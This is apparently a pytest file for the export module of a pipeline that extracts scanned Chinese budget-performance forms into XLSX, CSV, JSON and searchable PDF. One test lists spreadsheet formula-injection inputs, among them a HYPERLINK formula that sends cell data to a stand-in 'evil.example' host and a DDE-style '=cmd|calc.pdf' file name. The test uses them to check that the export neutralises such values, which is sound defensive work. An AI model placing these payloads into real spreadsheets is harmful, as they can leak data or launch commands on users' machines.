"""The batch spreadsheet as a person opens it: Chinese headers, a sheet per block,
numbers as numbers, open flags marked, corrections audited, nothing a spreadsheet would
run, no server paths. On SQLite: the export reads the store, no service needed."""
from __future__ import annotations

import csv
import json
import os
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from models import Document, Flag, Source
from tests.workers.cluster import ROOT
from workers.export import export, guard_csv, read_csv, unguard_csv
from store import tracking
from store.db import open_store
from store.models import FieldRow, FormRow
from store.results import correct_field

TRUTH = os.path.join(ROOT, 'tests', 'data', 'samples', 'samples_clean.truth.json')
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B2,"click")', '+1+1', '-2+3', '@SUM(A1:A9)',
           '\tcmd', '\r=1']


def _document() -> Document:
    with open(TRUTH, encoding='utf-8') as fh:
        document = Document.model_validate(json.load(fh))
    document.review = [
        Flag(form=1, field='funds.0.annual_budget', value='396.267529', reason='split_number',
             confidence=0.62, page=2, detail='two lines'),
        Flag(form=0, field='indicators.1.score', value=document.forms[0].indicators[1].score,
             reason='low_confidence', confidence=0.41, page=1, detail='OCR confidence 0.41'),
    ]
    return document


def _store_batch(store, folder, document: Document, file_name: str) -> int:
    path = folder / file_name
    path.write_bytes(b'%PDF scan ' + file_name.encode())
    scan = tracking.SubmittedFile(str(path), document.source.sha256, path.stat().st_size)
    (document_id,) = tracking.register(store, 'archive', [scan]).to_queue
    tracking.set_pages(store, document_id, document.source.pages)
    assert tracking.store_document(store, document_id, document, None, {'assemble': 0.01})
    return document_id


def _correct(store, document_id, form_index, path, value, user):
    with store.session(write=True) as session:
        field = session.scalar(select(FieldRow).join(FormRow).where(
            FormRow.document_id == document_id, FormRow.form_index == form_index,
            FieldRow.path == path))
        return correct_field(session, field.id, value, user).old_value


@pytest.fixture
def batch(tmp_path):
    """A batch of one document (the clean sample's truth) with two corrections, one of
    them the 总分 of form 2, stored under a folder the export must not reveal."""
    store = open_store(f'sqlite:///{tmp_path}/store.db')
    document = _document()
    scans = tmp_path / 'srv' / 'scans'
    scans.mkdir(parents=True)
    document_id = _store_batch(store, scans, document, 'fengtai-2024.pdf')
    old_total = _correct(store, document_id, 1, 'total.score', '97.5', 'archivist-li')
    old_executed = _correct(store, document_id, 0, 'funds.0.executed', '9.5', 'archivist-wang')
    document.forms[1].total.score = '97.5'
    document.forms[0].funds[0].executed = '9.5'
    return store, document, {'total': old_total, 'executed': old_executed}, str(scans)


def _rows(sheet) -> list[dict]:
    """Header -> cell, per row."""
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]


def _values(sheet) -> list[dict]:
    return [{k: c.value for k, c in row.items()} for row in _rows(sheet)]


def _number(text):
    """Decimal of a printed number or rate; None for "—" or an empty cell."""
    text = (text or '').replace(',', '')
    if not text:
        return None
    try:
        return Decimal(text.rstrip('%')) / (100 if text.endswith('%') else 1)
    except ArithmeticError:
        return None


def test_workbook_has_a_sheet_per_block_headed_as_the_form_prints(batch, tmp_path):
    store, document, _, scans = batch
    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    book = load_workbook(path)
    assert book.sheetnames == ['汇总', '基本信息', '项目资金', '年度总体目标', '绩效指标', '总分',
                               '待复核', '更正记录']
    assert [c.value for c in book['项目资金'][1]][3:] == ['项目资金（万元）', '年初预算数', '全年预算数',
                                                       '全年执行数', '分值', '执行率', '得分']
    assert [c.value for c in book['绩效指标'][1]][3:6] == ['一级指标', '二级指标', '三级指标']
    for sheet in book.worksheets:
        assert sheet.freeze_panes in ('A2', 'D2'), sheet.title
        assert all(sheet.column_dimensions[c].width >= 8 for c in 'ABC'), sheet.title
    summary = _values(book['汇总'])
    assert [(r['文件'], r['表序号'], r['项目名称']) for r in summary] == [
        ('fengtai-2024.pdf', i + 1, f.project_name) for i, f in enumerate(document.forms)]
    assert summary[1]['页码'] == '-'.join(str(p) for p in (document.forms[1].pages[0], document.forms[1].pages[-1]))
    goals = _values(book['年度总体目标'])
    assert [g['预期目标'] for g in goals] == [f.goals.expected for f in document.forms]
    for sheet in book.worksheets:                    # no server folder anywhere
        for row in sheet.iter_rows(values_only=True):
            assert not any(isinstance(v, str) and scans in v for v in row), sheet.title


def test_money_is_numbers_that_add_up_to_the_json(batch, tmp_path):
    store, document, _, _ = batch
    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    (json_path,) = export(store, 'archive', 'json', str(tmp_path / 'json'))
    with open(json_path, encoding='utf-8') as fh:
        exported = json.load(fh)
    funds = _rows(load_workbook(path)['项目资金'])
    executed = [r['全年执行数'] for r in funds]
    printed = [row['executed'] for form in exported['forms'] for row in form['funds']]
    assert len(executed) == len(printed)
    for cell, text in zip(executed, printed):
        if text is None:
            assert cell.value is None
        elif _number(text) is not None:
            assert cell.data_type == 'n' and Decimal(str(cell.value)) == _number(text)
        else:
            assert cell.value == text and cell.data_type == 's'    # '—' kept as printed
    json_sum = sum(_number(t) for t in printed if _number(t) is not None)
    assert Decimal(str(round(sum(c.value for c in executed if isinstance(c.value, (int, float))), 6))) == json_sum
    rates = [r['执行率'] for r in funds if isinstance(r['执行率'].value, (int, float))]
    assert rates and all(c.number_format.endswith('%') for c in rates)
    assert any(d == '—' for d in (r['分值'].value for r in funds))


def test_corrected_total_and_the_audit_of_who_changed_what(batch, tmp_path):
    store, document, old, _ = batch
    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    book = load_workbook(path)
    totals = _rows(book['总分'])
    assert totals[1]['得分'].value == 97.5 and totals[1]['得分'].data_type == 'n'
    assert _rows(book['汇总'])[1]['总分'].value == 97.5
    audit = _values(book['更正记录'])
    assert [(a['表序号'], a['栏目'], a['原值'], a['新值'], a['更正人']) for a in audit] == [
        (1, '项目资金 · 年度资金总额 · 全年执行数', old['executed'], '9.5', 'archivist-wang'),
        (2, '总分 · 得分', old['total'], '97.5', 'archivist-li')]
    assert all(a['时间 (UTC)'] is not None for a in audit)


def test_open_flags_are_filled_cells_with_the_reason_in_a_comment(batch, tmp_path):
    store, document, _, _ = batch
    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    book = load_workbook(path)
    funds = _rows(book['项目资金'])
    flagged = next(r for r in funds if r['表序号'].value == 2 and r['项目资金（万元）'].value == '年度资金总额')
    cell = flagged['全年预算数']
    assert cell.fill.fgColor.rgb.endswith('FFD966') and '数字跨行' in cell.comment.text
    assert cell.value == 396.267529
    indicator = [r for r in _rows(book['绩效指标']) if r['表序号'].value == 1][1]['得分']
    assert '识别把握不足' in indicator.comment.text and 'OCR confidence 0.41' in indicator.comment.text
    plain = flagged['全年执行数']
    assert plain.comment is None and not plain.fill.fgColor.rgb.endswith('FFD966')
    review = _rows(book['待复核'])
    assert sorted((r['表序号'].value, r['原因'].value) for r in review) == [(1, '识别把握不足'), (2, '数字跨行')]


def test_formula_looking_values_and_names_are_text_in_xlsx_and_csv(tmp_path):
    store = open_store(f'sqlite:///{tmp_path}/store.db')
    document = _document()
    form = document.forms[0]
    form.project_name, form.department = HOSTILE[0], HOSTILE[3]
    form.goals.expected, form.indicators[0].target = HOSTILE[1], HOSTILE[2]
    form.indicators[0].actual, form.implementing_unit = HOSTILE[4], HOSTILE[5]
    form.funds[1].executed = '-1.5'                  # a real negative number stays a number
    _store_batch(store, tmp_path, document, '=cmd|calc.pdf')

    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != 'f', (sheet.title, cell.coordinate, cell.value)
    info = _rows(book['基本信息'])[0]
    assert info['项目名称'].value == HOSTILE[0] and info['项目名称'].data_type == 's'
    assert info['文件'].value == '=cmd|calc.pdf' and info['文件'].data_type == 's'
    assert _rows(book['项目资金'])[1]['全年执行数'].value == -1.5

    (csv_path,) = export(store, 'archive', 'csv', str(tmp_path / 'csv'))
    with open(csv_path, encoding='utf-8-sig', newline='') as fh:
        records = list(csv.DictReader(fh))
    assert list(records[0])[:4] == ['文件', '表序号', '页码', '项目名称']
    for record in records:
        for value in record.values():
            assert not value.startswith(('=', '+', '-', '@', '\t', '\r')), value
    first = records[0]
    assert first['项目名称'] == "'" + HOSTILE[0] and first['文件'] == "'=cmd|calc.pdf"
    back = read_csv(csv_path)[0]                       # and scripts get the values back
    assert (back['project_name'], back['file'], back['department']) == (HOSTILE[0], '=cmd|calc.pdf', HOSTILE[3])
    assert guard_csv("'=1") == "''=1" and unguard_csv(guard_csv("'=1")) == "'=1"
    assert guard_csv("it's") == "it's" and unguard_csv("it's") == "it's"


def test_csv_has_every_block_with_chinese_headers_and_reads_back(batch, tmp_path):
    store, document, _, _ = batch
    (path,) = export(store, 'archive', 'csv', str(tmp_path / 'out'))
    with open(path, 'rb') as fh:
        assert fh.read(3) == b'\xef\xbb\xbf'                 # BOM: Excel reads it as UTF-8
    with open(path, encoding='utf-8-sig', newline='') as fh:
        records = list(csv.DictReader(fh))
    assert set(r['栏目'] for r in records) == {'项目资金', '年度总体目标', '绩效指标', '总分'}
    per_form = sum(len(f.funds) + len(f.indicators) + 2 for f in document.forms)
    assert len(records) == per_form
    rows = read_csv(path)
    total = next(r for r in rows if r['form'] == '1' and r['row'] == 'total')
    assert total['score'] == '97.5'
    funds = [r for r in rows if r['form'] == '1' and r['row'] == 'funds']
    assert funds[0]['annual_budget'] == '396.267529' and funds[0]['flag_reasons'] == '数字跨行'


def test_a_failed_document_is_on_the_summary_with_its_reason_but_not_its_folder(batch, tmp_path):
    store, _, _, scans = batch
    broken = tmp_path / 'srv' / 'scans' / 'box 7' / 'torn.pdf'
    broken.parent.mkdir()
    broken.write_bytes(b'%PDF-1.4 torn')
    (document_id,) = tracking.register(
        store, 'archive', [tracking.SubmittedFile(str(broken), 'b' * 64, 13)]).to_queue
    tracking.fail_document(store, document_id, f'{broken}: corrupt or truncated PDF')
    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    summary = _values(load_workbook(path)['汇总'])
    (failed,) = [r for r in summary if r['文件'] == 'torn.pdf']
    assert failed['状态'] == '失败' and failed['说明'] == 'torn.pdf: corrupt or truncated PDF'
    assert {r['状态'] for r in summary if r is not failed} == {'已完成'}
    rows = read_csv(export(store, 'archive', 'csv', str(tmp_path / 'csv'))[0])
    assert {r['page'] for r in rows if r['form'] == '0'} == {'1'}
    assert not any(scans in v for r in rows for v in r.values())


@pytest.mark.slow
def test_pdf_export_is_searchable_from_the_scan_or_else_the_stored_pages(tmp_path, recognizer):
    """One page read as a worker reads it; the export writes its searchable PDF from the
    original scan, and from the cleaned page image the worker stored once the scan is gone."""
    import shutil
    import subprocess

    import cv2

    from extractor import ingest, pipeline
    if shutil.which('pdftotext') is None:
        pytest.fail('poppler-utils is not installed (make setup installs it)')
    page = ingest.load_page(os.path.join(ROOT, 'tests', 'data', 'samples', 'samples_clean.pdf'), 1, 200)
    scan = tmp_path / 'srv' / 'form-1.png'
    scan.parent.mkdir()
    cv2.imwrite(str(scan), page.image)
    artifacts = pipeline.PageArtifacts()
    result = pipeline.process_page(ingest.load_page(str(scan), 1, 200), recognizer, artifacts)
    cleaned = tmp_path / 'pages' / 'form-1.p1.png'
    cleaned.parent.mkdir()
    cv2.imwrite(str(cleaned), artifacts.gray)
    document = pipeline.assemble(Source(file='form-1.png', sha256='c' * 64, pages=1), [result])
    store = open_store(f'sqlite:///{tmp_path}/store.db')
    (document_id,) = tracking.register(
        store, 'archive', [tracking.SubmittedFile(str(scan), 'c' * 64, scan.stat().st_size)]).to_queue
    tracking.set_pages(store, document_id, 1)
    tracking.finish_page(store, document_id, 1, result.model_dump(mode='json'), str(cleaned),
                         artifacts.gray.shape[1], artifacts.gray.shape[0], 200, 1.0)
    assert tracking.store_document(store, document_id, document, None, {})
    name = document.forms[0].project_name
    assert name

    for round_ in ('scan', 'stored page'):
        (path,) = export(store, 'archive', 'pdf', str(tmp_path / round_))
        assert os.path.basename(path) == 'form-1.pdf'
        text = subprocess.run(['pdftotext', path, '-'], capture_output=True, text=True).stdout
        assert name in text.replace(' ', '').replace('\n', ''), round_
        scan.unlink(missing_ok=True)


def test_archival_metadata_is_a_column_of_the_summary_and_the_csv(tmp_path):
    """A document extracted with a manifest carries 档号/box/batch (source.metadata): the
    JSON keeps it, the XLSX summary and every CSV row show it after the file name, as
    text ('0012' stays 0012); a document without metadata leaves the cells empty."""
    store = open_store(f'sqlite:///{tmp_path}/store.db')
    scans = tmp_path / 'scans'
    scans.mkdir()
    with_metadata = _document()
    with_metadata.source = Source(file='box7.pdf', sha256='c' * 64, pages=with_metadata.source.pages,
                                  metadata={'档号': 'A-2024-0012', 'box': '0012', '年度': '2024'})
    _store_batch(store, scans, with_metadata, 'box7.pdf')
    plain = _document()
    plain.source = Source(file='loose.pdf', sha256='d' * 64, pages=plain.source.pages)
    _store_batch(store, scans, plain, 'loose.pdf')
    (json_dir,) = {os.path.dirname(p) for p in export(store, 'archive', 'json', str(tmp_path / 'json'))}
    exported = {}
    for name in os.listdir(json_dir):
        with open(os.path.join(json_dir, name), encoding='utf-8') as fh:
            exported[name] = json.load(fh)['source'].get('metadata')
    assert exported == {'box7.json': {'档号': 'A-2024-0012', 'box': '0012', '年度': '2024'}, 'loose.json': None}

    (path,) = export(store, 'archive', 'xlsx', str(tmp_path / 'out'))
    sheet = load_workbook(path)['汇总']
    header = [c.value for c in sheet[1]]
    # 年度 is a column of the form already: the manifest's is told apart.
    assert header[:5] == ['文件', '档号', 'box', '年度（清单）', '表序号']
    summary = _values(sheet)
    boxed = [r for r in summary if r['文件'] == 'box7.pdf']
    assert len(boxed) == len(with_metadata.forms)
    assert {(r['档号'], r['box'], r['年度（清单）']) for r in boxed} == {('A-2024-0012', '0012', '2024')}
    assert {(r['档号'], r['box']) for r in summary if r['文件'] == 'loose.pdf'} == {(None, None)}

    (csv_path,) = export(store, 'archive', 'csv', str(tmp_path / 'csv'))
    with open(csv_path, encoding='utf-8-sig', newline='') as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames[:4] == ['文件', '档号', 'box', '年度（清单）']
        records = list(reader)
    assert {r['档号'] for r in records if r['文件'] == 'box7.pdf'} == {'A-2024-0012'}
    assert {r['box'] for r in records if r['文件'] == 'loose.pdf'} == {''}
    assert len(read_csv(csv_path)) == len(records)          # the fixed columns read back as before
